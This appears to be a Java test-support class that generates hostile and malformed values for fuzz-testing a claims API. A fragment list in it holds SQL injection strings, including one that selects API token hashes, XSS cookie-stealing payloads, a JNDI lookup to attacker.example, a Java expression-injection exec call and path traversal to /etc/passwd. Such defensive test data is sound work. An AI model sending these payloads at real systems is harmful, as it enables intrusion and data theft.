package org.claimledger.trust;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.MissingNode;
import org.claimledger.common.Slugs;
import org.claimledger.support.Gen;

import java.math.BigDecimal;
import java.math.BigInteger;
import java.util.List;
import java.util.regex.Pattern;

/**
 * Values a careless or hostile client sends: SQL and script fragments, odd unicode, numbers beyond any
 * range, and JSON of the wrong shape. Each generator states what its values are guaranteed not to be,
 * because a fuzz test that sends a value the service may rightly accept would prove nothing.
 */
final class HostileValues {
    static final JsonNodeFactory NODES = JsonNodeFactory.instance;
    /** Stands for "leave the field out" in a mutation. */
    static final JsonNode ABSENT = MissingNode.getInstance();
    private static final Pattern SLUG = Pattern.compile(Slugs.PATTERN);

    private static final List<String> FRAGMENTS = List.of(
            "'; DROP TABLE claim; --", "' OR '1'='1", "\" OR \"\"=\"", "1; SELECT pg_sleep(5)--",
            "' UNION SELECT token_hash FROM api_token --", "$$; DELETE FROM revision; $$", "\\'; COPY claim TO '/tmp/x'",
            "<script>alert(1)</script>", "<img src=x onerror=alert(document.cookie)>", "javascript:alert(1)",
            "{{7*7}}", "${jndi:ldap://attacker.example/a}", "#{T(java.lang.Runtime).getRuntime().exec('id')}",
            "../../../../etc/passwd", "%2e%2e%2f%2e%2e%2f", "%00", "\u0000", "nul\u0000inside", "\r\nX-Injected: 1",
            "\u202Egnp.exe", "\uFEFFbom", "Z\u0351\u0363\u0364a\u0310\u0302l\u0300go", "ք Армения Azərbaycan",
            "😀💥🇦🇲", "\uD83D", "NaN", "Infinity", "-0", "1e309", "0x1F", "99999999999999999999999999999",
            "null", "undefined", "true", "[]", "{}", "\t", " ", "", "Robert'); --");

    private HostileValues() {
    }

    /** Any text: a fragment, random unicode, or both. */
    static Gen<String> text() {
        Gen<String> fragment = Gen.of(FRAGMENTS);
        Gen<String> unicode = Gen.strings(Gen.anyChars(), 1, 40);
        Gen<String> mixed = Gen.combine(fragment, Gen.strings(Gen.anyChars(), 0, 12), String::concat);
        return Gen.oneOf(fragment, unicode, mixed);
    }

    /** Text that is not a slug, so it cannot name any source or party (their slugs are checked on write). */
    static Gen<String> notASlug() {
        return text().filter(s -> !SLUG.matcher(s).matches());
    }

    /** Text no enumeration of the API has as a word (those are lower-case, hyphenated words). */
    static Gen<String> notAWord() {
        // blank text is left out: Jackson reads it as null, which optional enumerations accept
        return Gen.oneOf(notASlug().filter(s -> !s.isBlank()), Gen.of("KILLED", "Killed", "killed ", " casualty", "at_least",
                "equipment_loss", "ASSERTS", "Retracted"));
    }

    /**
     * Text that is not an ISO date, nor anything Jackson would read as one (it trims dates, and reads
     * text that trims to nothing, such as "\u0000", as no date at all).
     */
    static Gen<String> notADate() {
        return Gen.oneOf(text().filter(s -> !s.trim().isEmpty() && !looksLikeDate(s)),
                Gen.of("2020-13-01", "2020-02-30", "2020-00-10", "20-10-28", "2020/10/28", "28.10.2020",
                        "2020-10-28T25:00:00", "2020-10-28Z", "Oct 28, 2020", "2020-1-1", "yesterday"));
    }

    private static boolean looksLikeDate(String s) {
        try {
            java.time.LocalDate.parse(s.trim());
            return true;
        } catch (RuntimeException e) {
            return false;
        }
    }

    /** A date after today: a source cannot have said something tomorrow. */
    static Gen<String> futureDate() {
        return Gen.integers(1, 3_000_000)
                .map(days -> java.time.LocalDate.now().plusDays(days + 1).toString());
    }

    /** Text of exactly {@code length} letters, past a field's limit. */
    static Gen<String> tooLong(int length) {
        return Gen.integers(length, length + 50).map("x"::repeat);
    }

    /** Text with a NUL character, which no text column of PostgreSQL can hold. */
    static Gen<String> withNul() {
        return Gen.strings(Gen.letters(), 0, 20).map(s -> s + "\u0000" + s);
    }

    /** Text with visible content that is still blank to a validator. */
    static Gen<String> blank() {
        return Gen.of("", " ", "   ", "\t", "\n", " \t\n ");
    }

    /** JSON where a string belongs (numbers and booleans are left out: Jackson reads them as text). */
    static Gen<JsonNode> notAString() {
        return Gen.oneOf(Gen.just(NODES.objectNode()),
                text().map(s -> (JsonNode) NODES.objectNode().put("value", s)),
                Gen.just(NODES.arrayNode()), text().map(s -> (JsonNode) NODES.arrayNode().add(s)));
    }

    /** JSON where a whole number belongs: fractions, out of range, text, other shapes. */
    static Gen<JsonNode> notACount() {
        return Gen.oneOf(
                Gen.longs(Long.MIN_VALUE, -1).map(n -> (JsonNode) NODES.numberNode(n)),
                Gen.bigIntegers(BigInteger.valueOf(Long.MAX_VALUE).add(BigInteger.ONE), BigInteger.TEN.pow(40)).map(n -> (JsonNode) NODES.numberNode(n)),
                Gen.of("1e400", "-1e400", "1.5", "0.0001", "3360.7", "1E19").map(n -> (JsonNode) NODES
                        .numberNode(new BigDecimal(n))),
                text().filter(s -> !isNumber(s)).map(s -> (JsonNode) NODES.textNode(s)),
                Gen.of(NODES.booleanNode(true), NODES.booleanNode(false)),
                notAString());
    }

    /** JSON where an enumeration word belongs: unknown words, ordinals, other shapes. */
    static Gen<JsonNode> notAnEnum() {
        return Gen.oneOf(notAWord().map(s -> (JsonNode) NODES.textNode(s)),
                Gen.integers(-1, 40).map(n -> (JsonNode) NODES.numberNode(n)),
                Gen.of(NODES.booleanNode(true)), notAString());
    }

    /** JSON where a date belongs (numbers and [y, m, d] arrays are left out: Jackson reads them as dates). */
    static Gen<JsonNode> notADateValue() {
        return Gen.oneOf(notADate().map(s -> (JsonNode) NODES.textNode(s)),
                Gen.just(NODES.objectNode()), Gen.of(NODES.booleanNode(true)),
                Gen.just(NODES.arrayNode().add("2020").add("October")));
    }

    /** JSON where a list belongs. */
    static Gen<JsonNode> notAList() {
        return Gen.oneOf(text().filter(s -> !s.isEmpty()).map(s -> (JsonNode) NODES.textNode(s)),
                Gen.integers().map(n -> (JsonNode) NODES.numberNode(n)),
                Gen.just(NODES.objectNode().put("title", "a report")), Gen.of(NODES.booleanNode(true)));
    }

    /** JSON where an object belongs. */
    static Gen<JsonNode> notAnObject() {
        return Gen.oneOf(text().filter(s -> !s.isEmpty()).map(s -> (JsonNode) NODES.textNode(s)),
                Gen.integers().map(n -> (JsonNode) NODES.numberNode(n)),
                Gen.just(NODES.arrayNode()), Gen.of(NODES.booleanNode(false)));
    }

    /** Any JSON value at all: for fields that must not be sent. */
    static Gen<JsonNode> anything() {
        return Gen.oneOf(text().map(s -> (JsonNode) NODES.textNode(s)),
                Gen.longs().map(n -> (JsonNode) NODES.numberNode(n)), Gen.just(NODES.nullNode()),
                Gen.of(NODES.booleanNode(true)), notAString());
    }

    static Gen<JsonNode> textNode(Gen<String> values) {
        return values.map(s -> (JsonNode) NODES.textNode(s));
    }

    private static boolean isNumber(String s) {
        try {
            new BigDecimal(s.trim());
            return true;
        } catch (NumberFormatException e) {
            return false;
        }
    }
}
